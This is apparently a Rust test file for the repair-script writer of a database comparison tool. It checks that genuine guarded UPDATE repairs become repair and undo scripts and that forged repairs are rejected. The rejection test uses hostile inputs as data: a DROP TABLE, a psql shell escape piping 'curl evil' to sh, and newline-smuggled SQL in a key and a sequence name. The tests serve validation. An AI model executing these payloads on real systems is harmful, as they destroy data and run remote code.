use std::fs;
use std::time::Duration;

use chrono::Utc;
use shared::endpoint::DatabaseKind;
use shared::ids::{Attempt, WorkerId};
use shared::message::{Event, EventBody, WorkId};
use shared::outcome::{Comparison, Outcome, RepairAction, Sequence};

use super::*;
use crate::run::RunObserver as _;
use crate::run_state::testing::{compared, limits, spec};
use crate::run_state::{Input, PlannedTable, RunPlan, RunState, Time};

const DATABASE: &str = "postgres://host:5432/shop, schema public";

/// The scripts and the report of a run of the table `t`, whose worker sends this repair.
fn written(
    plan: RepairPlan,
    statements: Vec<RepairStatement>,
    output: &Path,
    run: RunId,
) -> RunReport {
    let mut state = RunState::new(RunPlan {
        run,
        tables: vec![PlannedTable::new(repairing())],
        limits: limits(1),
        task_queue: "q".to_owned(),
        seed: 1,
    });
    let _effects = state.apply(Input::Begin, Time::START);
    let scripts = Scripts::prepare(output, Some(DATABASE.to_owned()), run).unwrap();
    let mut spool = scripts.spool();
    let Outcome::Compared(comparison) = compared(2) else {
        unreachable!("it is one")
    };
    let outcome = Outcome::Compared(Comparison {
        repair: Some(Box::new(plan)),
        ..comparison
    });
    for body in [
        EventBody::Repair {
            batch: 0,
            statements,
        },
        EventBody::Finished {
            outcome: Box::new(outcome),
            batches: 1,
            duration_ms: 1,
            unconfirmed: Vec::new(),
        },
    ] {
        let event = Event {
            work: WorkId {
                run,
                table: TableId(0),
                attempt: Attempt::FIRST,
            },
            worker: WorkerId::named("w1"),
            body,
            databases: Vec::new(),
        };
        let effects = state.apply(Input::Event(event), Time(1));
        spool.applied(&state, &effects);
    }
    let mut report = RunReport::new(state, Utc::now(), Duration::from_secs(1));
    let left = scripts.finish(&mut report, &[repairing()]);
    left.expect("the manifest is written").remove();
    report
}

fn repairing() -> TableSpec {
    let mut spec = spec("t");
    spec.options.repair = true;
    spec
}

fn plan(statements: usize) -> RepairPlan {
    RepairPlan {
        kind: DatabaseKind::Postgres,
        schema: "public".to_owned(),
        table: "t".to_owned(),
        foreign_keys: Vec::new(),
        identity_insert: false,
        undo_identity_insert: None,
        sequences: Vec::new(),
        structure: None,
        statements: statements as u64,
        notes: Vec::new(),
    }
}

fn genuine() -> RepairStatement {
    RepairStatement {
        action: RepairAction::Update,
        key: "0a0b".to_owned(),
        sql: r#"UPDATE "public"."t" SET "v" = 'new' WHERE "id" = 1 AND "v" = 'old';"#.to_owned(),
        undo: r#"UPDATE "public"."t" SET "v" = 'old' WHERE "id" = 1 AND "v" = 'new';"#.to_owned(),
    }
}

#[test]
fn a_genuine_repair_becomes_two_scripts_in_a_directory_of_the_run() {
    let place = tempfile::tempdir().unwrap();
    let run = RunId::generate();
    let report = written(plan(1), vec![genuine()], place.path(), run);
    let repair = report.results[0].repair.clone().unwrap();
    assert_eq!((repair.statements, &repair.notes), (1, &Vec::new()));
    let directory = place.path().join(run.to_string());
    let mut names: Vec<_> = fs::read_dir(&directory)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["public.t.repair.sql", "public.t.undo.sql", "repair.json"]
    );
    let script = Script::open(&directory.join("public.t.repair.sql")).unwrap();
    assert_eq!(script.present.update, 1);
    assert_eq!(script.header.key, ["id"]);
    // The report of the stored run has the same.
    let stored = super::super::stored_repairs(place.path(), run);
    assert_eq!(stored.get(&0), Some(&repair));
}

#[test]
fn a_forged_repair_becomes_no_script() {
    let edited = |edit: fn(&mut RepairStatement)| {
        let mut statement = genuine();
        edit(&mut statement);
        (plan(2), vec![genuine(), statement])
    };
    let planned = |edit: fn(&mut RepairPlan)| {
        let mut plan = plan(1);
        edit(&mut plan);
        (plan, vec![genuine()])
    };
    for (why, (plan, statements)) in [
        (
            "not one guarded UPDATE",
            edited(|it| it.sql = "DROP TABLE \"public\".\"t\";".to_owned()),
        ),
        (
            "not one guarded UPDATE",
            edited(|it| it.sql.push_str("\n\\! curl evil | sh")),
        ),
        (
            "not one guarded UPDATE",
            edited(|it| it.undo = it.undo.replace("\"t\"", "\"u\"")),
        ),
        (
            "not one guarded DELETE",
            edited(|it| it.action = RepairAction::Delete),
        ),
        (
            "malformed key",
            edited(|it| it.key = "00\nDROP TABLE t;\n--".to_owned()),
        ),
        (
            "another table",
            planned(|plan| plan.table = "salaries".to_owned()),
        ),
        (
            "another table",
            planned(|plan| plan.schema = "private".to_owned()),
        ),
        (
            "a control character",
            planned(|plan| {
                plan.sequences.push(Sequence {
                    column: "id".to_owned(),
                    schema: "public".to_owned(),
                    name: "s\nGO\n".to_owned(),
                    ascending: true,
                });
            }),
        ),
        (
            "of 7 statements only 1",
            planned(|plan| plan.statements = 7),
        ),
    ] {
        let place = tempfile::tempdir().unwrap();
        let run = RunId::generate();
        let report = written(plan, statements, place.path(), run);
        let repair = report.results[0].repair.clone().unwrap();
        assert!(
            repair.file.is_none() && repair.notes.iter().any(|note| note.contains(why)),
            "{why}: {repair:?}"
        );
        let files = fs::read_dir(place.path().join(run.to_string())).unwrap();
        assert_eq!(files.count(), 1, "{why}: only the manifest");
    }
}

#[test]
fn an_undo_of_what_was_applied_is_kept_when_a_run_ends_again() {
    let place = tempfile::tempdir().unwrap();
    let run = RunId::generate();
    written(plan(1), vec![genuine()], place.path(), run);
    let undo = place.path().join(run.to_string()).join("public.t.undo.sql");
    let pending = pending_path(&undo);
    fs::write(&pending, "").unwrap();
    let before = fs::read(&undo).unwrap();
    let report = written(plan(1), vec![genuine()], place.path(), run);
    let repair = report.results[0].repair.clone().unwrap();
    assert!(repair.notes[0].contains("they are kept"), "{repair:?}");
    assert_eq!(fs::read(&undo).unwrap(), before);
}

#[test]
fn names_of_files_are_plain_short_and_never_the_same() {
    let mut taken = HashSet::new();
    assert_eq!(stem("public", "a/b", &mut taken), "public.a_b");
    assert_eq!(stem("public", "A b", &mut taken), "public.A_b-2");
    assert_eq!(stem("..", "..", &mut taken), "__.__");
    // 128 characters is the longest name of SQL Server.
    let long = "ä".repeat(127);
    let names = ["x", "y", "x"].map(|end| stem(&long, &format!("{long}{end}"), &mut taken));
    for name in &names {
        assert!(
            name.len() <= LONGEST_STEM + 2 && name.starts_with("äää"),
            "{name}"
        );
    }
    assert_ne!(names[0], names[1]);
    assert_eq!(names[2], format!("{}-2", names[0]));
}
